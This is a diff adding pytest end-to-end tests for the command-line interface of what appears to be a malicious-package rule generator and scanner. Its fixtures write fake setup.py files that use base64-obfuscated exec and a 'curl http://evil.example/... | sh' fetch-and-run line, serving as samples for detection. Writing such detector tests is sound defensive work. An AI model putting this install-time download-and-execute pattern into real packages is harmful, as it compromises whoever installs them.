@@ -1,0 +1,158 @@
+"""End-to-end CLI coverage: generate, scan, and the pipeline loop via main(argv).
+
+Everything runs on a tiny on-disk corpus (two similar malicious packages —
+similar so the clustering stage retains their group — plus one benign) so
+the full generate -> publish -> scan loop stays fast while exercising the
+real argument parsing, package discovery and exit codes.
+"""
+
+import json
+
+import pytest
+
+from repro.cli import main as cli_main
+
+
+def _malicious_setup(variant: str) -> str:
+    return (
+        "import base64, os\n"
+        'exec(base64.b64decode("aW1wb3J0IG9z"))\n'
+        f'os.system("curl http://evil.example/{variant} | sh")\n'
+    )
+
+
+BENIGN_LIB = "def add(a, b):\n    return a + b\n"
+
+
+def _write_package(root, name: str, file_name: str, content: str):
+    package = root / name
+    package.mkdir(parents=True)
+    (package / file_name).write_text(content, encoding="utf-8")
+    return package
+
+
+@pytest.fixture()
+def malware_dir(tmp_path):
+    """Two similar malicious packages: one retained cluster, real rules."""
+    root = tmp_path / "malware"
+    _write_package(root, "evil-pkg", "setup.py", _malicious_setup("payload"))
+    _write_package(root, "evil-pkg-fork", "setup.py", _malicious_setup("stage2"))
+    return root
+
+
+@pytest.fixture()
+def corpus_dir(tmp_path, malware_dir):
+    """Scan targets: one of the malicious packages plus a benign one."""
+    root = tmp_path / "pkgs"
+    _write_package(root, "evil-pkg", "setup.py", _malicious_setup("payload"))
+    _write_package(root, "nice-pkg", "lib.py", BENIGN_LIB)
+    return root
+
+
+class TestGenerateCli:
+    def test_generate_from_package_directory(self, malware_dir, tmp_path, capsys):
+        rules_dir = tmp_path / "rules"
+        exit_code = cli_main(
+            ["generate", "--packages", str(malware_dir), "--output", str(rules_dir)]
+        )
+        assert exit_code == 0
+        output = capsys.readouterr().out
+        assert "generating rules from 2 malicious packages" in output
+        assert "wrote" in output
+        written = list(rules_dir.rglob("*.yar")) + list(rules_dir.rglob("*.yaml"))
+        assert written, "generate must write rule files"
+
+    def test_generate_empty_directory_fails(self, tmp_path):
+        empty = tmp_path / "empty"
+        empty.mkdir()
+        assert cli_main(["generate", "--packages", str(empty)]) == 1
+
+
+class TestScanCli:
+    @pytest.fixture()
+    def rules_dir(self, malware_dir, tmp_path):
+        rules = tmp_path / "rules"
+        assert (
+            cli_main(
+                ["generate", "--packages", str(malware_dir), "--output", str(rules)]
+            )
+            == 0
+        )
+        return rules
+
+    def test_scan_flags_malicious_package(self, rules_dir, corpus_dir, capsys):
+        exit_code = cli_main(
+            ["scan", "--rules", str(rules_dir), str(corpus_dir / "evil-pkg")]
+        )
+        assert exit_code == 2
+        assert "MALICIOUS" in capsys.readouterr().out
+
+    def test_scan_batch_over_generated_rules(
+        self, rules_dir, corpus_dir, tmp_path, capsys
+    ):
+        report_path = tmp_path / "report.json"
+        exit_code = cli_main(
+            [
+                "scan-batch",
+                "--rules", str(rules_dir),
+                "--mode", "inprocess",
+                "--json", str(report_path),
+                str(corpus_dir),
+            ]
+        )
+        output = capsys.readouterr().out
+        assert exit_code == 2  # the evil package must be flagged
+        assert "published ruleset v1" in output
+        assert str(corpus_dir / "evil-pkg") + ": MALICIOUS" in output
+        assert str(corpus_dir / "nice-pkg") + ": clean" in output
+        assert "slowest rules:" in output  # per-rule cost telemetry surfaced
+        report = json.loads(report_path.read_text(encoding="utf-8"))
+        assert report["packages"] == 2
+        assert report["malicious"] == 1
+
+
+class TestPipelineCli:
+    def test_pipeline_end_to_end_on_package_directory(
+        self, malware_dir, tmp_path, capsys
+    ):
+        report_path = tmp_path / "report.json"
+        rules_dir = tmp_path / "rules"
+        exit_code = cli_main(
+            [
+                "pipeline",
+                "--packages", str(malware_dir),
+                "--batches", "2",
+                "--mode", "inprocess",
+                "--output", str(rules_dir),
+                "--json", str(report_path),
+            ]
+        )
+        output = capsys.readouterr().out
+        assert exit_code == 0
+        # the corpus was fed incrementally ...
+        assert "fed batch 1/2" in output
+        assert "fed batch 2/2" in output
+        # ... auto-published as v1 ...
+        assert "published v1" in output
+        # ... and the scan used it with no manual registry step
+        assert "ruleset v1" in output
+        assert "evil-pkg: MALICIOUS" in output
+        assert "evil-pkg-fork: MALICIOUS" in output
+        assert rules_dir.is_dir()
+        report = json.loads(report_path.read_text(encoding="utf-8"))
+        assert report["ruleset_version"] == 1
+        assert report["packages"] == 2
+
+    def test_pipeline_empty_directory_fails(self, tmp_path):
+        empty = tmp_path / "empty"
+        empty.mkdir()
+        assert cli_main(["pipeline", "--packages", str(empty)]) == 1
+
+    def test_pipeline_on_synthetic_corpus(self, capsys):
+        exit_code = cli_main(
+            ["pipeline", "--scale", "0.01", "--batches", "3", "--mode", "inprocess"]
+        )
+        output = capsys.readouterr().out
+        assert exit_code == 0
+        assert "published v1" in output
+        assert "detection: precision" in output
